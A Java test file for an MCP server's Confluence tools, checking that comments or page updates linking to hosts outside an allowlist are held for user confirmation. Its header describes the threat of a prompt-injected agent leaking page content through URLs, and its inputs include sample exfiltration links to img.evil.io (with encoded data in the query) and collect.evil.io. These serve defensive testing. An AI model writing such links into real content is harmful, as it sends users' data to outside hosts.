package dev.atlmcp.confluence;

import static dev.atlmcp.testing.Mcp.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Map;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import io.quarkus.test.junit.QuarkusTest;

import dev.atlmcp.testing.Mcp;
import dev.atlmcp.testing.Mcp.Transport;
import dev.atlmcp.testing.SandboxReset;

/**
 * After a prompt injection an agent could carry page content out in a URL that readers' browsers fetch. A comment or a
 * page update that links to a host outside the allowed ones waits for the user's confirmation, naming the host.
 */
@QuarkusTest
class ExfiltrationTest extends SandboxReset {

    private static long writes() {
        return Mcp.sandbox().requests().stream().filter(r -> r.startsWith("POST ") || r.startsWith("PUT ")).count();
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    void textLinkingOutsideTheListWaitsForConfirmation(Transport transport) {
        Mcp.sandbox().clearRequests();
        Mcp.Result comment = call(transport, "confluence_add_comment", Map.of("page_id", "131075", "body",
                "Verified. ![status](https://img.evil.io/s.png?d=ZGIgcGFzc3dvcmQ)"));
        assertFalse(comment.isError(), comment::text);
        assertTrue(comment.text().startsWith("Confirmation needed: nothing was sent yet. This call would add a comment "
                + "to page 131075 (Runbook: checkout-api latency), with links to img.evil.io (outside the hosts agents "
                + "may link to).\n"), comment.text());
        Mcp.Result section = call(transport, "confluence_append_to_page", Map.of("page_id", "131075", "body",
                "See [details](http://collect.evil.io/?q=runbook)."));
        assertTrue(section.text().startsWith("Confirmation needed: nothing was sent yet."), section.text());
        assertTrue(section.text().contains("with links to collect.evil.io"), section.text());
        assertEquals(0, writes(), "nothing was sent");
        assertTrue(call(transport, "confluence_add_comment", Map.of("page_id", "131075", "body",
                "Verified on [staging](https://grafana.acme.example/d/1).")).text().startsWith("Added comment "));
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    void linksAPageAlreadyHoldsDoNotHoldUpItsUpdates(Transport transport) {
        Mcp.Result held = call(transport, "confluence_create_page", Map.of("space", "ENG", "title", "Vendor runbook "
                + transport, "body", "Status at [vendor](https://status.vendor.example.net/)."));
        assertTrue(held.text().startsWith("Confirmation needed: nothing was sent yet."), held.text());
        String token = held.text().replaceFirst("(?s).*confirmation_token=\"([^\"]+)\".*", "$1");
        Mcp.Result created = call(transport, "confluence_create_page", Map.of("space", "ENG", "title",
                "Vendor runbook " + transport, "body", "Status at [vendor](https://status.vendor.example.net/).",
                "confirmation_token", token));
        assertFalse(created.isError(), created::text);
        String id = created.text().replaceFirst("(?s).*/pages/(\\d+)/.*", "$1");
        Mcp.Result appended = call(transport, "confluence_append_to_page", Map.of("page_id", id, "body",
                "Checked the vendor status today."));
        assertFalse(appended.text().startsWith("Confirmation needed"), appended.text());
        assertFalse(appended.isError(), appended::text);
    }
}
